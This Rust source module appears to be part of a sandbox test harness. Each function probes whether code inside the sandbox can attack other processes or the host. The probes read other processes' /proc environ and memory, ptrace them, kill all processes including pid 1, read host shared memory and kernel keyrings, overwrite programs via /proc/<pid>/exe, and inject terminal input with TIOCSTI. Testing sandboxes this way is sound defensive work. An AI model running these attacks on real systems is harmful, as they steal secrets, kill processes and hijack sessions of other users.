//! Attacks on other processes and on identity.

use std::ffi::CString;
use std::fs::{self, OpenOptions};
use std::io::{self, Read, Write};
use std::os::unix::fs::OpenOptionsExt;
use std::process::Command;

use crate::{Options, Tried, in_child, show};

/// Shows what `/proc` tells about every process.
pub(crate) fn look(_: &Options) -> Tried {
    for entry in fs::read_dir("/proc")?.flatten() {
        for file in ["cmdline", "environ", "status", "comm", "stack", "auxv"] {
            if let Ok(bytes) = fs::read(entry.path().join(file)) {
                show(&bytes);
            }
        }
    }
    let _ = Command::new("ps").args(["-ef", "ww"]).status();
    Ok(())
}

/// Kills `pid`, and all that it may when `everyone=1` (never given to a control).
pub(crate) fn kill(options: &Options) -> Tried {
    let pid = options.number("pid")? as i32;
    let everyone = options.list("everyone") == ["1"];
    // SAFETY: plain integers.
    unsafe {
        let process = libc::syscall(libc::SYS_pidfd_open, pid, 0);
        libc::syscall(libc::SYS_pidfd_send_signal, process, libc::SIGKILL, 0, 0);
        libc::kill(pid, libc::SIGKILL);
        libc::syscall(libc::SYS_tgkill, pid, pid, libc::SIGKILL);
        if everyone {
            // Pid 1 is the sandbox's own: killing it would end the attack, and must not work.
            libc::kill(1, libc::SIGTERM);
            libc::kill(1, libc::SIGKILL);
            // Spares the caller and pid 1.
            libc::kill(-1, libc::SIGKILL);
        }
    }
    Ok(())
}

/// Traces and reads an own child, and the processes in `pids`.
pub(crate) fn trace(options: &Options) -> Tried {
    // SAFETY: one thread; the child only waits to be killed.
    let child = unsafe { libc::fork() };
    if child == 0 {
        // SAFETY: ends with its parent at the latest.
        unsafe {
            libc::prctl(libc::PR_SET_PDEATHSIG, libc::SIGKILL);
            libc::pause();
            libc::_exit(0)
        }
    }
    let mut targets = vec![("child", child)];
    targets.extend(
        options
            .list("pids")
            .into_iter()
            .filter_map(|pid| Some(("other", pid.parse().ok()?))),
    );
    for (kind, target) in targets {
        let mut byte = 0_u8;
        let local = libc::iovec {
            iov_base: (&raw mut byte).cast(),
            iov_len: 1,
        };
        let remote = libc::iovec {
            iov_base: (&raw const target).cast_mut().cast(),
            iov_len: 1,
        };
        // SAFETY: the local buffer is valid; the remote address is read in the other process only.
        unsafe {
            let read = libc::syscall(
                libc::SYS_process_vm_readv,
                target,
                &raw const local,
                1,
                &raw const remote,
                1,
                0,
            );
            options.reach_call(&format!("process_vm_readv {kind}"), read);
            let seized = libc::syscall(libc::SYS_ptrace, libc::PTRACE_SEIZE, target, 0, 0);
            options.reach_call(&format!("ptrace {kind}"), seized);
            if seized == 0 {
                libc::syscall(libc::SYS_ptrace, libc::PTRACE_DETACH, target, 0, 0);
            }
            let process = libc::syscall(libc::SYS_pidfd_open, target, 0);
            let taken = libc::syscall(libc::SYS_pidfd_getfd, process, 1, 0);
            options.reach_call(&format!("pidfd_getfd {kind}"), taken);
        }
        if kind == "other"
            && OpenOptions::new()
                .read(true)
                .open(format!("/proc/{target}/mem"))
                .is_ok()
        {
            options.reach("mem other");
        }
    }
    // SAFETY: its own child.
    unsafe {
        libc::kill(child, libc::SIGKILL);
        libc::waitpid(child, std::ptr::null_mut(), 0);
    }
    Ok(())
}

/// Reads a System V segment, a message queue and a shared file of the host by their names.
pub(crate) fn shared_memory(options: &Options) -> Tried {
    let key = options.number("key")? as libc::key_t;
    let queue = CString::new(options.get("queue")?)?;
    let mut buffer = vec![0_u8; 8_192];
    // SAFETY: an attached segment holds at least the 64 bytes read; the buffer is valid for its length.
    unsafe {
        let segment = libc::shmget(key, 0, 0);
        let address = libc::shmat(segment, std::ptr::null(), libc::SHM_RDONLY);
        if address as isize != -1 {
            show(std::slice::from_raw_parts(address.cast(), 64));
        }
        let opened = libc::mq_open(queue.as_ptr(), libc::O_RDONLY | libc::O_NONBLOCK);
        if opened >= 0 {
            let length = libc::mq_receive(
                opened,
                buffer.as_mut_ptr().cast(),
                buffer.len(),
                std::ptr::null_mut(),
            );
            show(&buffer[..usize::try_from(length).unwrap_or(0)]);
        }
    }
    if let Ok(bytes) = fs::read(options.get("shared")?) {
        show(&bytes);
    }
    for list in ["shm", "sem", "msg"] {
        let text = fs::read_to_string(format!("/proc/sysvipc/{list}")).unwrap_or_default();
        if text.lines().nth(1).is_some() {
            options.reach("listed segments");
        }
    }
    Ok(())
}

/// Makes namespaces in each way there is.
pub(crate) fn namespaces(options: &Options) -> Tried {
    let user = libc::CLONE_NEWUSER;
    in_child(|| {
        // SAFETY: plain integers, in a child of its own.
        let made = unsafe { libc::syscall(libc::SYS_unshare, user) };
        options.reach_call("unshare", made);
    });
    in_child(|| {
        // SAFETY: like fork; the new process ends at once.
        let made = unsafe { libc::syscall(libc::SYS_clone, user | libc::SIGCHLD, 0, 0, 0, 0) };
        if made == 0 {
            // SAFETY: ends the new process.
            unsafe { libc::_exit(0) }
        }
        options.reach_call("clone", made);
    });
    in_child(|| {
        let arguments = [user as u64, 0, 0, 0, libc::SIGCHLD as u64, 0, 0, 0];
        // SAFETY: the array has the layout and size of version 0 of `clone_args`.
        let made = unsafe {
            libc::syscall(
                libc::SYS_clone3,
                arguments.as_ptr(),
                size_of_val(&arguments),
            )
        };
        if made == 0 {
            // SAFETY: ends the new process.
            unsafe { libc::_exit(0) }
        }
        options.reach_call("clone3", made);
    });
    in_child(|| {
        let own = fs::File::open("/proc/self/ns/ipc");
        let descriptor = own.as_ref().map_or(-1, std::os::fd::AsRawFd::as_raw_fd);
        // SAFETY: plain integers; joining the own namespace changes nothing.
        let joined = unsafe { libc::syscall(libc::SYS_setns, descriptor, libc::CLONE_NEWUSER) };
        options.reach_call("setns", joined);
    });
    Ok(())
}

/// Looks for capabilities, also after executing a program that carries some.
pub(crate) fn capabilities(options: &Options) -> Tried {
    let status = fs::read_to_string("/proc/self/status")?;
    for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        let line = status
            .lines()
            .find_map(|line| line.strip_prefix(set)?.strip_prefix(':'));
        if !line.is_some_and(|digits| digits.trim().bytes().all(|digit| digit == b'0')) {
            options.reach(&format!(
                "{}{set}",
                options.values.get("label").map_or("", String::as_str)
            ));
        }
    }
    let capable = options.values.get("capable").map_or("", String::as_str);
    if !capable.is_empty() {
        let nonce = format!("nonce={}", options.nonce);
        Command::new(capable)
            .args(["-", &nonce, "label=file "])
            .status()?;
    }
    // SAFETY: plain integers.
    let raised = unsafe { libc::prctl(libc::PR_CAP_AMBIENT, libc::PR_CAP_AMBIENT_RAISE, 12, 0, 0) };
    if raised == 0 {
        options.reach("raised");
    }
    Ok(())
}

/// Looks into the process `pid` through `/proc`, and writes to its program.
pub(crate) fn init(options: &Options) -> Tried {
    let pid = options.get("pid")?;
    for (part, file) in [
        ("exe", "exe"),
        ("maps", "maps"),
        ("environ", "environ"),
        ("mem", "mem"),
    ] {
        let mut bytes = vec![0; 65_536];
        let read = fs::File::open(format!("/proc/{pid}/{file}"))
            .and_then(|mut file| file.read(&mut bytes));
        // Memory begins with an address that nothing is mapped to.
        let reached = match read {
            Ok(length) => length > 0,
            Err(error) => error.raw_os_error() == Some(libc::EIO),
        };
        if reached {
            options.reach(part);
            if part != "exe" {
                show(&bytes);
            }
        }
    }
    for entry in fs::read_dir(format!("/proc/{pid}/fd"))
        .into_iter()
        .flatten()
        .flatten()
    {
        options.reach("fd");
        let _ = OpenOptions::new()
            .write(true)
            .custom_flags(libc::O_NONBLOCK)
            .open(entry.path());
    }
    if fs::read_link(format!("/proc/{pid}/exe")).is_ok() {
        options.reach("link");
    }
    if options.list("write") == ["1"] {
        for name in [
            format!("/proc/{pid}/exe"),
            "/proc/self/exe".into(),
            "/attack".into(),
        ] {
            if let Ok(mut program) = OpenOptions::new().write(true).open(name) {
                options.reach("program");
                let _ = program.write_all(b"#!/bin/sh\n");
            }
        }
    }
    Ok(())
}

/// Puts words into a terminal's mouth: one of its own, and the `terminal` of the host.
pub(crate) fn terminal(options: &Options) -> Tried {
    let terminal = CString::new(options.get("terminal")?)?;
    in_child(|| {
        // SAFETY: valid C strings, plain integers, and a byte that lives through the call.
        unsafe {
            libc::setsid();
            // Becomes the controlling terminal of the new session, if it can be opened.
            libc::open(terminal.as_ptr(), libc::O_RDWR);
            let controlling = libc::open(c"/dev/tty".as_ptr(), libc::O_RDWR);
            if controlling >= 0 {
                options.reach("controlling terminal");
            }
        }
    });
    in_child(|| {
        // SAFETY: as above; `ptsname` is used before another call to it.
        unsafe {
            libc::setsid();
            let control = libc::posix_openpt(libc::O_RDWR);
            libc::grantpt(control);
            libc::unlockpt(control);
            let name = libc::ptsname(control);
            if name.is_null() {
                return;
            }
            let own = libc::open(name, libc::O_RDWR);
            let byte = b'x';
            let pushed = libc::ioctl(own, libc::TIOCSTI, &raw const byte);
            options.reach_call("TIOCSTI", pushed.into());
            let console = libc::ioctl(own, libc::TIOCLINUX, &raw const byte);
            options.reach_call("TIOCLINUX", console.into());
        }
    });
    Ok(())
}

/// Reads the key `name` of the inherited session and adds one.
pub(crate) fn keys(options: &Options) -> Tried {
    /// `KEY_SPEC_SESSION_KEYRING`, `KEY_SPEC_PROCESS_KEYRING`.
    const KEYRINGS: [(libc::c_long, &str); 2] = [(-3, "session"), (-2, "process")];
    let name = CString::new(options.get("name")?)?;
    let user = c"user";
    let mut buffer = [0_u8; 256];
    // SAFETY: valid C strings, and a buffer valid for its length.
    unsafe {
        // KEYCTL_SEARCH is 10, KEYCTL_READ is 11.
        let found = libc::syscall(
            libc::SYS_keyctl,
            10,
            KEYRINGS[0].0,
            user.as_ptr(),
            name.as_ptr(),
            0,
        );
        options.reach_call("keyctl", found);
        if found >= 0 {
            let length = libc::syscall(
                libc::SYS_keyctl,
                11,
                found,
                buffer.as_mut_ptr(),
                buffer.len(),
            );
            show(&buffer[..usize::try_from(length).unwrap_or(0)]);
        }
        let added = libc::syscall(
            libc::SYS_add_key,
            user.as_ptr(),
            c"planted".as_ptr(),
            c"x".as_ptr(),
            1,
            KEYRINGS[1].0,
        );
        options.reach_call("add_key", added);
        let asked = libc::syscall(
            libc::SYS_request_key,
            user.as_ptr(),
            name.as_ptr(),
            0,
            KEYRINGS[1].0,
        );
        options.reach_call("request_key", asked);
    }
    let listed = fs::read_to_string("/proc/keys").unwrap_or_default();
    if listed.contains("keyring") {
        options.reach("listed keys");
    }
    io::stdout().flush()
}
